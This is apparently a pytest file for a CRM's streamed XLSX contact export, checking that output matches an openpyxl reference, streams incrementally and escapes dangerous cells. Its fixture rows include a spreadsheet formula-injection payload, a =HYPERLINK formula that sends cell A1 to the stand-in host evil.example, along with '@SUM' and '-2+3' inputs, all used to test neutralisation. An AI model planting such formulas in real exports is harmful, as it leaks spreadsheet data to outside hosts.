"""The streamed XLSX export holds exactly what the in-memory openpyxl workbook held."""
import io

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from crm.services import export_file, xlsx_stream

HEADER = ["Full name", "Email", "Phone", "Notes"]
ROWS = [
    ["Ясь Купала", "yas@example.org", "+375 29 111 22 33", '=HYPERLINK("http://evil.example/?q="&A1,"x")'],
    ["Łucja Żółć", "", None, "  -2+3"],
    ["<b>Tom & Jerry</b>", "\"quoted\" 'single'", "@SUM(A1)", "line one\nline two\ttab"],
    ["  leading and trailing spaces  ", "bell\x07 and nul\x00 removed", "\rcarriage", "0012345"],
]
CANARY = ["Canary Person", "canary@canary.example", "+1 202 555 0142", ""]


def reference_xlsx(header, rows):
    """What write_xlsx produced before it streamed: a whole openpyxl workbook, all cells text."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Contacts"

    def clean(value):
        return ILLEGAL_CHARACTERS_RE.sub("", export_file.neutralise(value))

    sheet.append([clean(h) for h in header])
    for row in rows:
        sheet.append([clean(v) for v in row])
    for cells in sheet.iter_rows():
        for cell in cells:
            cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def cells(data, read_only):
    sheet = load_workbook(io.BytesIO(data), read_only=read_only).active
    rows = [[(c.value or "", c.data_type if c.value else "s") for c in row] for row in sheet.iter_rows()]
    return sheet.title, [[cell for cell in row] for row in rows]


def rows_with_canary():
    return list(export_file.with_canary(iter(ROWS), CANARY, 2))


@pytest.mark.parametrize("read_only", [False, True])
def test_streamed_workbook_reads_back_like_the_in_memory_one(read_only):
    sink = io.BytesIO()
    written = export_file.write_xlsx(sink, HEADER, rows_with_canary())
    assert written == len(ROWS) + 1
    title, streamed = cells(sink.getvalue(), read_only)
    ref_title, reference = cells(reference_xlsx(HEADER, rows_with_canary()), read_only)
    width = len(HEADER)
    pad = lambda table: [row + [("", "s")] * (width - len(row)) for row in table]  # noqa: E731
    assert title == ref_title == "Contacts"
    assert pad(streamed) == pad(reference)
    values = [value for row in streamed for value, _ in row]
    assert "'" + ROWS[0][3] in values and "'@SUM(A1)" in values and "'  -2+3" in values
    assert CANARY[0] in values and all(kind == "s" for row in streamed for _, kind in row)
    assert not any(v.startswith(("=", "+", "-", "@")) for v in values)


def test_the_sheet_is_written_as_rows_come():
    """Nothing is held back: the zip grows while rows are still being produced."""
    sink = io.BytesIO()
    sizes = []

    def rows():
        for n in range(20_000):
            if n % 5_000 == 0:
                sizes.append(len(sink.getvalue()))
            yield [f"Person {n}", f"p{n}@example.org", f"note {n} " * 5]

    assert xlsx_stream.write(sink, "Contacts", rows()) == 20_000
    assert sizes[0] < sizes[1] < sizes[2] < sizes[3] < len(sink.getvalue())
    sheet = load_workbook(io.BytesIO(sink.getvalue()), read_only=True).active
    last = list(sheet.iter_rows(min_row=20_000, values_only=True))
    assert last == [("Person 19999", "p19999@example.org", "note 19999 " * 5)]


def test_column_names_past_z():
    assert [xlsx_stream._column(i) for i in (0, 25, 26, 51, 52, 701, 702)] == \
        ["A", "Z", "AA", "AZ", "BA", "ZZ", "AAA"]
